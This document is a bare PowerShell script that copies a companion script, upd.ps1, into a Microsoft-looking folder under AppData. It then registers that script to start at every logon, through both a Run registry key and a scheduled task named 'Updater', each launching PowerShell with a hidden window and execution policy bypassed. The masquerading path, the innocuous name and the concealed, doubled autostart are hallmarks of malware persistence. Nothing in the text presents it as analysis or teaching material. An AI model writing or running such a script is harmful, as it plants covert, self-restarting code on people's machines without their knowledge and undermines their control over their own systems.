$p = "$env:APPDATA\Microsoft\svc\upd.ps1"
New-Item -Force -ItemType Directory (Split-Path $p) | Out-Null
Copy-Item "$PSScriptRoot\upd.ps1" $p
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d "powershell -w hidden -ep bypass -f $p" /f
schtasks /create /tn Updater /sc onlogon /tr "powershell -w hidden -ep bypass -f $p" /f
